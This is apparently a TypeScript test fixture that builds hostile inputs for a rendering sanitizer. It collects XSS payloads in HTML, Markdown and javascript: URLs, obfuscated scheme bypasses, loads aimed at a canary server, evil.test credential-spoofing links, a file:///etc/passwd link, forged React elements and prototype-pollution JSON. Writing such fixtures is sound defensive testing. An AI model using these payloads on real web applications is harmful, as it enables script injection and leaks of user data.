import type { Schema } from "../emulators/fill-schema.ts";

const RUN = "__pwned=1";
const BASE64 = Buffer.from(`<script>${RUN}</script>`).toString("base64");

/** Addresses that no link may have; `canary` is a server that nobody may ask. */
const addresses = (canary: string) => [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java&#x09;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `java%0ascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `\u200bjavascript:${RUN}`,
  `javascript://${new URL(canary).host}/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,${BASE64}`,
  `vbscript:msgbox(1)`,
  `blob:${canary}/blob`,
  `filesystem:${canary}/file`,
  "file:///etc/passwd",
  `view-source:${canary}/source`,
  "intent://scan/#Intent;scheme=evil;end",
  "about:blank",
  `//${new URL(canary).host}/protocol-relative`,
  `\\\\\\\\${new URL(canary).host}\\\\backslash`,
  "/sign-out",
  "?returnTo=//evil.test",
  "#__next",
  `https://bank.example@${new URL(canary).host}/user`,
  "https://bank.example:secret@evil.test/",
];

/** HTML that runs script, loads something or leads away wherever it is taken for HTML. */
export const htmlTexts = (canary: string) => [
  `<script>${RUN}</script>`,
  `<script src=${canary}/script.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=${canary}/img>`,
  `<img srcset="${canary}/srcset 1x">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><image href=${canary}/svg /></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></table></mtext></math>`,
  `<math><maction xlink:href=javascript:${RUN}>x</maction></math>`,
  `<iframe src=${canary}/frame></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data=${canary}/object></object>`,
  `<embed src=${canary}/embed>`,
  `<link rel=stylesheet href=${canary}/style.css>`,
  `<link rel=prefetch href=${canary}/prefetch>`,
  `<style>@import url(${canary}/import);*{background:url(${canary}/css)}</style>`,
  `<div style="background:url(${canary}/attribute)">x</div>`,
  `<form action=${canary}/form><button>x</button></form>`,
  `<button form=x formaction=javascript:${RUN}>x</button>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video src=${canary}/video onerror=${RUN}></video>`,
  `<audio src=${canary}/audio autoplay></audio>`,
  `<a href=${canary}/anchor ping=${canary}/ping target=_top>x</a>`,
  `<a href="javascript:${RUN}" id=__next name=currentScript>x</a>`,
  "<img name=cookie id=getElementById>",
  "<form id=documentElement name=body><input name=attributes></form>",
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<body onload=${RUN} background=${canary}/body>`,
  `<p onpointerenter=${RUN} style=position:fixed;inset:0>x</p>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="${canary}/xsl"?>`,
];

const leading = (canary: string) => [
  `<meta http-equiv=refresh content="0;url=${canary}/refresh">`,
  `<base href=${canary}/base/>`,
];

/** Each stands in a paragraph of its own, behind its number. */
export const markdownTexts = (canary: string) => [
  ...addresses(canary).map((address) => `[words](${address})`),
  `[words][r1]\n\n[r1]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `![alt](${canary}/image)`,
  `![alt][r2]\n\n[r2]: ${canary}/reference`,
  `![alt](javascript:${RUN})`,
  `![alt](data:image/svg+xml,<svg/onload=${RUN}>)`,
  `![" onerror="${RUN}](x)`,
  `[![alt](${canary}/nested)](javascript:${RUN})`,
  `[words](https://evil.test/title "\\" onmouseover=\\"${RUN}")`,
  "[\u202egnp.knab\u202c](https://evil.test/bidi)",
  "[bank.example\u200b](https://evil.test/zero-width)",
  "[words](https://xn--80ak6aa92e.example/)",
  "<https://evil.test/autolink>",
  "[words](mailto:evil@evil.test?body=x)",
  `[opened](${canary}/opened)`,
  ...[...htmlTexts(canary), ...leading(canary)],
  `&lt;img src=x onerror=${RUN}&gt;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `\uff1cimg src=x onerror=${RUN}\uff1e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\`<img src=x onerror=${RUN}>\``,
  `\`\`\`html"onload=${RUN}\n<script>${RUN}</script>\n\`\`\``,
  `| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |\n| --- | --- |\n| ![x](${canary}/cell) | x |`,
  `note[^__proto__] and[^__next]\n\n[^__proto__]: [x](javascript:${RUN})\n\n[^__next]: x`,
  `- [x] <input autofocus onfocus=${RUN}>`,
  `{{constructor.constructor("${RUN}")()}}`,
  `$\\href{javascript:${RUN}}{x}$`,
  `\${${RUN}}`,
];

/** What pretends to be an element, or would set an attribute or a handler. */
function hostileMembers(canary: string): string[] {
  const members = {
    dangerouslySetInnerHTML: { __html: `<img src=x onerror=${RUN}>` },
    onClick: RUN,
    onError: RUN,
    style: { backgroundImage: `url(${canary}/style)`, position: "fixed", inset: 0 },
    className: "fixed inset-0",
    href: `javascript:${RUN}`,
    src: `${canary}/src`,
    srcDoc: `<script>parent.${RUN}</script>`,
    action: `javascript:${RUN}`,
    formAction: `javascript:${RUN}`,
    is: "x-evil",
    ref: "evil",
    children: {
      $$typeof: "Symbol(react.transitional.element)",
      type: "iframe",
      props: { src: `${canary}/element` },
    },
  };
  return Object.entries(members).map(([name, value]) => `"${name}":${JSON.stringify(value)}`);
}

/** Names that a form has itself, or every object. */
const NAMES = ["nodeName", "elements", "constructor", "toString"];

interface Shape extends Schema {
  properties?: Record<string, Shape>;
  items?: Shape;
  /** Where texts are no free ones: the names of a form's fields. */
  pattern?: string;
  maxLength?: number;
}

/** JSON of a schema's shape in which each text is hostile and each object has members that nobody asked for. */
export function hostileInput(schema: Shape, canary: string): string {
  const texts = [
    `<img src=x onerror=${RUN}>`,
    `javascript:${RUN}`,
    `<svg onload=${RUN}>`,
    "__proto__",
    `${canary}/p`,
  ];
  const members = hostileMembers(canary);
  let at = 0;
  const fill = (shape: Shape): string => {
    const { type, properties = {}, items = {} } = shape;
    at += 1;
    const next = (list: unknown[]) => list[at % list.length];
    if (shape.enum) return JSON.stringify(next(shape.enum));
    if (type === "string")
      return JSON.stringify(String(next(shape.pattern ? NAMES : texts)).slice(0, shape.maxLength));
    if (type === "array") return `[${NAMES.map(() => fill(items)).join()}]`;
    if (type !== "object") return type === "boolean" ? "true" : "1";
    const own = Object.entries(properties).map(([key, value]) => `"${key}":${fill(value)}`);
    return `{${[...own, ...members].join()}}`;
  };
  return fill(schema);
}

/** Nothing in it is of the kind that a component's schema says, and some would change what all objects have. */
export const wrongInput = (canary: string) =>
  `{${[
    ...hostileMembers(canary),
    '"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}',
    ...["title", "columns", "rows", "fields", "series", "labels", "options", "tasks", "scores"].map(
      (name, at) =>
        `"${name}":${['{"$$typeof":"Symbol(react.portal)"}', "[null,[[]],{}]", '{"length":9e9}', "9e9"][at % 4]}`,
    ),
  ].join()}}`;
